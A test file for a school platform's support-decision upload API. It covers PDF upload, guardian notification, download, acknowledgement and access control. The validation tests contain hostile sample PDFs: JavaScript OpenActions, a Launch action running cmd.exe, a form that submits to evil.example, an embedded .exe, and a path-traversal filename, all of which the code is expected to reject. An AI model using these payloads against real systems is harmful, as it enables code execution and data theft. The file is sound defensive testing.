// Support decisions through the API: the principal uploads a decision with its PDF over HTTP, the guardians
// are told through the real delivery path (a local SMTP server and a 46elks stand-in), the guardian lists it,
// downloads the same bytes and confirms having read it. Bad uploads are refused with their problems and
// nothing saved; whoever may not record or read learns nothing (404 / NOT_FOUND).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deliveryEnv, type Fake46elks, type FakeSmtpServer, startFake46elks, startFakeSmtpServer } from '../../test/fake-providers.ts';
import { firstChild, optIn, type Child } from '../../test/fixtures.ts';
import { errorCode, eventually, loggedIn, staffUsername, startTestServer, type TestClient, type TestServer } from '../../test/harness.ts';
import { noise, objectStreamPdf, onePagePdf, streamObject } from '../../test/pdf-files.ts';

const FIELDS = `id studentId kind summary decidedOn decidedBy documentName documentSize recordedAt
  acknowledgements { name role acknowledgedAt } acknowledgedByMe canAcknowledge`;
const LIST = `query($id: ID!) { studentSupportDecisions(studentId: $id) { studentId canRecord decisions { ${FIELDS} } } }`;
const ACKNOWLEDGE = `mutation($id: ID!) { acknowledgeSupportDecision(id: $id) { ${FIELDS} } }`;

const EMAIL = 'hem@example.se';
/** A small but complete PDF: what a scanner or a word processor would make, only shorter. */
const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);

interface Decision {
  id: string;
  studentId: string;
  kind: string;
  summary: string;
  decidedOn: string;
  decidedBy: string;
  documentName: string;
  documentSize: number;
  acknowledgements: { name: string; role: string; acknowledgedAt: string }[];
  acknowledgedByMe: boolean;
  canAcknowledge: boolean;
}
interface Listing {
  studentSupportDecisions: { studentId: string; canRecord: boolean; decisions: Decision[] };
}

interface Upload {
  studentId: string;
  kind?: string;
  summary?: string;
  decidedOn?: string;
  file?: { bytes: Buffer; name: string; type?: string } | null;
}

describe('support decisions on pglite', () => {
  let server: TestServer;
  let smtp: FakeSmtpServer;
  let elks: Fake46elks;
  let guardian: TestClient;
  let child: Child;
  let principal: TestClient;
  let mentor: TestClient;
  let decisionId: string;
  const prisma = () => server.db.prisma;

  beforeAll(async () => {
    smtp = await startFakeSmtpServer();
    elks = await startFake46elks();
    server = await startTestServer('pglite', {
      env: deliveryEnv(smtp, elks),
    });
    guardian = await loggedIn(server, 'vardnadshavare');
    child = await firstChild(server, guardian, 'vardnadshavare');
    await optIn(guardian, '070-123 45 67', EMAIL);
    principal = await loggedIn(server, await staffUsername(server, 'PRINCIPAL', { schoolId: child.schoolId }));
    mentor = await loggedIn(server, await staffUsername(server, 'MENTOR', { groupId: child.classId }));
  });
  afterAll(async () => {
    await server?.stop();
    await smtp?.stop();
    await elks?.stop();
  });

  /** POST /api/support-decisions as a browser form sends it: the fields first, then the file. */
  async function upload(client: TestClient | null, input: Upload) {
    const form = new FormData();
    form.append('studentId', input.studentId);
    form.append('kind', input.kind ?? 'ACTION_PROGRAMME');
    form.append('summary', input.summary ?? 'Åtgärdsprogram i matematik: stödlektion varje tisdag, anpassade prov.');
    form.append('decidedOn', input.decidedOn ?? server.today);
    const file = input.file === undefined ? { bytes: PDF, name: 'Åtgärdsprogram.pdf' } : input.file;
    if (file) form.append('document', new Blob([new Uint8Array(file.bytes)], { type: file.type ?? 'application/pdf' }), file.name);
    const response = await fetch(`${server.url}/api/support-decisions`, {
      method: 'POST',
      headers: client?.token ? { authorization: `Bearer ${client.token}` } : {},
      body: form,
    });
    return { status: response.status, body: (await response.json()) as { id?: string; code?: string; problems?: string[] } };
  }

  const download = (client: TestClient | null, id: string) =>
    fetch(`${server.url}/api/support-decisions/${id}/document`, {
      headers: client?.token ? { authorization: `Bearer ${client.token}` } : {},
    });

  const counts = () =>
    Promise.all([
      prisma().supportDecision.count(),
      prisma().outboundMessage.count(),
      prisma().auditEvent.count({ where: { action: 'supportDecision.recorded' } }),
    ]);

  it('the principal uploads a decision; the guardian is told by e-mail and SMS through the providers', async () => {
    const result = await upload(principal, { studentId: child.id, file: { bytes: PDF, name: '../C:\\Åtgärdsprogram "7B".pdf' } });
    expect(result.status).toBe(201);
    decisionId = result.body.id ?? '';
    const row = await prisma().supportDecision.findUniqueOrThrow({ where: { id: decisionId } });
    expect(row).toMatchObject({
      studentId: child.id,
      kind: 'ACTION_PROGRAMME',
      documentName: 'Åtgärdsprogram 7B.pdf',
      documentSize: PDF.length,
    });
    expect(await prisma().auditEvent.count({ where: { action: 'supportDecision.recorded', entityId: decisionId } })).toBe(1);

    const mails = await eventually(async () => {
      const found = smtp.received.filter((mail) => mail.to.includes(EMAIL) && mail.subject?.includes('Beslut om åtgärdsprogram'));
      return found.length > 0 ? found : undefined;
    }, 'the decision e-mail');
    expect(mails).toHaveLength(1);
    expect(mails[0]?.subject).toContain(child.firstName);
    expect(mails[0]?.text).toContain('https://insyn.kommun.se/beslut-om-stod');
    // What was decided stays behind the login.
    expect(mails[0]?.text).not.toContain('stödlektion');
    const texts = await eventually(async () => {
      const found = elks.received.filter((sms) => sms.to === '+46701234567' && sms.message.includes('åtgärdsprogram'));
      return found.length > 0 ? found : undefined;
    }, 'the decision SMS');
    expect(texts[0]?.message).toContain(child.firstName);
    const rows = await eventually(async () => {
      const found = await prisma().outboundMessage.findMany({
        where: { idempotencyKey: { startsWith: `supportDecision:${decisionId}:${child.guardianId}:` } },
      });
      return found.length === 2 && found.every((message) => message.status === 'SENT') ? found : undefined;
    }, 'both messages marked sent');
    expect(rows.map((message) => [message.kind, message.channel, message.provider]).sort()).toEqual([
      ['SUPPORT_DECISION', 'EMAIL', 'SMTP'],
      ['SUPPORT_DECISION', 'SMS', '46ELKS'],
    ]);
  });

  it('the guardian lists it, downloads the same bytes and confirms having read it, once', async () => {
    const listed = await guardian.request<Listing>(LIST, { id: child.id });
    expect(listed.errors).toBeUndefined();
    expect(listed.data?.studentSupportDecisions.canRecord).toBe(false);
    const decision = listed.data?.studentSupportDecisions.decisions.find((d) => d.id === decisionId);
    expect(decision).toMatchObject({
      kind: 'ACTION_PROGRAMME',
      decidedOn: server.today,
      documentName: 'Åtgärdsprogram 7B.pdf',
      documentSize: PDF.length,
      acknowledgedByMe: false,
      canAcknowledge: true,
    });

    const response = await download(guardian, decisionId);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('content-disposition')).toContain(`filename*=UTF-8''${encodeURIComponent('Åtgärdsprogram 7B.pdf')}`);
    expect(response.headers.get('cache-control')).toBe('private, no-store');
    expect(Buffer.from(await response.arrayBuffer()).equals(PDF)).toBe(true);
    expect(await prisma().auditEvent.count({ where: { action: 'supportDecision.documentRead', entityId: decisionId } })).toBe(1);

    const acknowledged = await guardian.request<{ acknowledgeSupportDecision: Decision }>(ACKNOWLEDGE, { id: decisionId });
    expect(acknowledged.errors).toBeUndefined();
    const first = acknowledged.data!.acknowledgeSupportDecision;
    expect(first.acknowledgedByMe).toBe(true);
    expect(first.acknowledgements).toEqual([expect.objectContaining({ role: 'GUARDIAN' })]);
    expect(first.acknowledgements[0]?.acknowledgedAt.slice(0, 10)).toBe(server.today);
    const again = await guardian.request<{ acknowledgeSupportDecision: Decision }>(ACKNOWLEDGE, { id: decisionId });
    expect(again.data?.acknowledgeSupportDecision.acknowledgements).toEqual(first.acknowledgements);
    expect(await prisma().supportDecisionAcknowledgement.count({ where: { decisionId } })).toBe(1);

    // The principal and the mentor see who confirmed; the mentor may read but not record, and neither confirms.
    const seen = await mentor.request<Listing>(LIST, { id: child.id });
    expect(seen.data?.studentSupportDecisions.canRecord).toBe(false);
    expect(seen.data?.studentSupportDecisions.decisions.find((d) => d.id === decisionId)).toMatchObject({
      acknowledgements: first.acknowledgements,
      acknowledgedByMe: false,
      canAcknowledge: false,
    });
    expect((await principal.request<Listing>(LIST, { id: child.id })).data?.studentSupportDecisions.canRecord).toBe(true);
    expect(errorCode(await principal.request(ACKNOWLEDGE, { id: decisionId }))).toBe('NOT_FOUND');
  });

  it('a bad upload is refused with its problems, and nothing is saved', async () => {
    const before = await counts();
    const html = await upload(principal, {
      studentId: child.id,
      file: { bytes: Buffer.from('<html>not a pdf</html>'), name: 'beslut.pdf' },
    });
    expect(html).toEqual({ status: 400, body: expect.objectContaining({ code: 'BAD_USER_INPUT', problems: ['NOT_A_PDF'] }) });
    const big = Buffer.alloc(10 * 1024 * 1024 + 1, 0x20);
    PDF.copy(big);
    const oversized = await upload(principal, { studentId: child.id, file: { bytes: big, name: 'stor.pdf' } });
    expect(oversized).toEqual({ status: 400, body: expect.objectContaining({ problems: ['DOCUMENT_TOO_LARGE'] }) });
    const fields = await upload(principal, { studentId: child.id, kind: 'HELP', summary: ' ', decidedOn: '2099-01-01', file: null });
    expect(fields.body.problems).toEqual(['UNKNOWN_KIND', 'SUMMARY_REQUIRED', 'IN_THE_FUTURE', 'DOCUMENT_REQUIRED']);
    // A body cut off in the middle of the document, as a dropped connection leaves it: a refusal, not a server error.
    const cut = await fetch(`${server.url}/api/support-decisions`, {
      method: 'POST',
      headers: { 'content-type': 'multipart/form-data; boundary=cut-off', authorization: `Bearer ${principal.token}` },
      body: `--cut-off\r\nContent-Disposition: form-data; name="studentId"\r\n\r\n${child.id}\r\n--cut-off\r\nContent-Disposition: form-data; name="document"; filename="a.pdf"\r\n\r\n%PDF-1.4`,
    });
    expect(cut.status).toBe(400);
    expect(((await cut.json()) as { code: string }).code).toBe('BAD_USER_INPUT');
    expect(await counts()).toEqual(before);
  });

  it('a PDF with JavaScript, actions or attachments, or not a well-formed PDF, is refused and nothing is saved', async () => {
    const before = await counts();
    const clean = onePagePdf();
    const refusals: [string, Buffer, string][] = [
      [
        'JavaScript run on opening',
        onePagePdf({ catalog: '/OpenAction 5 0 R', objects: ['<</S/JavaScript/JS(app.alert\\(1\\))>>'] }),
        'PDF_JAVASCRIPT',
      ],
      [
        'JavaScript in a compressed object stream',
        objectStreamPdf('/OpenAction<</S/J#61vaScript/JS(app.alert\\(1\\))>>'),
        'PDF_JAVASCRIPT',
      ],
      [
        'a program started on opening',
        onePagePdf({ catalog: '/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>' }),
        'PDF_UNSAFE_ACTION',
      ],
      [
        'a form sent elsewhere',
        onePagePdf({
          page: '/Annots[5 0 R]',
          objects: ['<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/SubmitForm/F<</FS/URL/F(https://evil.example/collect)>>>>>>'],
        }),
        'PDF_UNSAFE_ACTION',
      ],
      [
        'an embedded file',
        onePagePdf({
          catalog: '/Names<</EmbeddedFiles<</Names[(beslut.exe) 5 0 R]>>>>',
          objects: ['<</Type/Filespec/F(beslut.exe)/EF<</F 6 0 R>>>>', streamObject('/Type/EmbeddedFile', 'MZ')],
        }),
        'PDF_EMBEDDED_FILE',
      ],
      [
        'HTML wrapped around a PDF',
        Buffer.concat([Buffer.from('<html><body><!--'), clean, Buffer.from('--><script>alert(1)</script></body></html>')]),
        'NOT_A_PDF',
      ],
      ['HTML after the end of a PDF', Buffer.concat([clean, Buffer.from('<html><script>alert(1)</script></html>')]), 'PDF_EXTRA_CONTENT'],
      ['a file cut off', clean.subarray(0, Math.floor(clean.length / 2)), 'PDF_UNREADABLE'],
      ['random bytes after %PDF-', Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(4096)]), 'PDF_UNREADABLE'],
      [
        'random bytes between %PDF- and %%EOF',
        Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(4096), Buffer.from('\n%%EOF\n')]),
        'PDF_UNREADABLE',
      ],
    ];
    for (const [what, bytes, problem] of refusals) {
      const result = await upload(principal, { studentId: child.id, file: { bytes, name: 'beslut.pdf' } });
      expect({ what, ...result }).toEqual({
        what,
        status: 400,
        body: expect.objectContaining({ code: 'BAD_USER_INPUT', problems: [problem] }),
      });
    }
    // The other fields' problems come with the file's, all at once.
    const both = await upload(principal, { studentId: child.id, summary: '', file: { bytes: refusals[0]![1], name: 'beslut.pdf' } });
    expect(both.body.problems).toEqual(['SUMMARY_REQUIRED', 'PDF_JAVASCRIPT']);
    expect(await counts()).toEqual(before);

    // A clean PDF as a current writer saves it (compressed objects) is stored, and comes back the same.
    const modern = objectStreamPdf('');
    const stored = await upload(principal, { studentId: child.id, file: { bytes: modern, name: 'Beslut.pdf' } });
    expect(stored.status).toBe(201);
    const response = await download(guardian, stored.body.id ?? '');
    expect(response.status).toBe(200);
    expect(Buffer.from(await response.arrayBuffer()).equals(modern)).toBe(true);
  });

  it('a teacher, the mentor, a guardian, another school\u2019s principal and no one at all cannot upload; they learn nothing', async () => {
    const before = await counts();
    // A teacher of one of the child's groups, with no other duty.
    const teaching = await prisma().userAccount.findFirstOrThrow({
      where: {
        staff: {
          duties: {
            some: { kind: 'TEACHER', group: { memberships: { some: { studentId: child.id } } } },
            none: { kind: { in: ['PRINCIPAL', 'ADMINISTRATOR', 'MENTOR'] } },
          },
        },
      },
      select: { username: true },
      orderBy: { username: 'asc' },
    });
    const teacher = await loggedIn(server, teaching.username);
    const elsewhere = await prisma().userAccount.findFirstOrThrow({
      where: { staff: { duties: { some: { kind: 'PRINCIPAL', schoolId: { not: child.schoolId } }, none: { kind: 'ADMINISTRATOR' } } } },
      select: { username: true },
    });
    const otherPrincipal = await loggedIn(server, elsewhere.username);
    for (const client of [teacher, mentor, guardian, otherPrincipal]) {
      expect((await upload(client, { studentId: child.id })).status).toBe(404);
    }
    expect((await upload(principal, { studentId: 'not-an-id' })).status).toBe(404);
    expect(await upload(null, { studentId: child.id })).toEqual({
      status: 401,
      body: expect.objectContaining({ code: 'UNAUTHENTICATED' }),
    });
    expect(await counts()).toEqual(before);

    // Reading: a teacher and the other school's principal get the same answer as for an id that does not exist.
    for (const client of [teacher, otherPrincipal]) {
      expect(errorCode(await client.request(LIST, { id: child.id }))).toBe('NOT_FOUND');
      expect((await download(client, decisionId)).status).toBe(404);
    }
    expect((await download(principal, '00000000-0000-4000-8000-000000000000')).status).toBe(404);
    expect((await download(null, decisionId)).status).toBe(401);
  });

  it("an adult student's guardian without consent sees nothing and is not told; the student reads and confirms", async () => {
    const adult = await prisma().student.findFirstOrThrow({
      where: { account: { username: 'myndig' } },
      select: {
        id: true,
        schoolId: true,
        guardianships: { select: { guardianId: true, guardian: { select: { account: { select: { username: true } } } } } },
        consents: { where: { withdrawnAt: null }, select: { guardianId: true } },
      },
    });
    const without = adult.guardianships.find((g) => !adult.consents.some((c) => c.guardianId === g.guardianId));
    expect(without?.guardian.account?.username).toBeTruthy();
    const adultsPrincipal = await loggedIn(server, await staffUsername(server, 'PRINCIPAL', { schoolId: adult.schoolId }));
    const result = await upload(adultsPrincipal, {
      studentId: adult.id,
      kind: 'ADAPTED_STUDY_PATH',
      summary: 'Anpassad studiegång läsåret ut.',
    });
    expect(result.status).toBe(201);
    const id = result.body.id ?? '';

    const outsider = await loggedIn(server, without!.guardian.account!.username);
    expect(errorCode(await outsider.request(LIST, { id: adult.id }))).toBe('NOT_FOUND');
    expect((await download(outsider, id)).status).toBe(404);
    expect(errorCode(await outsider.request(ACKNOWLEDGE, { id }))).toBe('NOT_FOUND');
    const told = await prisma().outboundMessage.findMany({ where: { idempotencyKey: { startsWith: `supportDecision:${id}:` } } });
    expect(told.some((message) => message.guardianId === without!.guardianId)).toBe(false);

    const self = await loggedIn(server, 'myndig');
    const own = await self.request<Listing>(LIST, { id: adult.id });
    expect(own.data?.studentSupportDecisions.decisions.find((d) => d.id === id)?.canAcknowledge).toBe(true);
    const confirmed = await self.request<{ acknowledgeSupportDecision: Decision }>(ACKNOWLEDGE, { id });
    expect(confirmed.data?.acknowledgeSupportDecision.acknowledgements).toEqual([expect.objectContaining({ role: 'STUDENT' })]);
  });
});
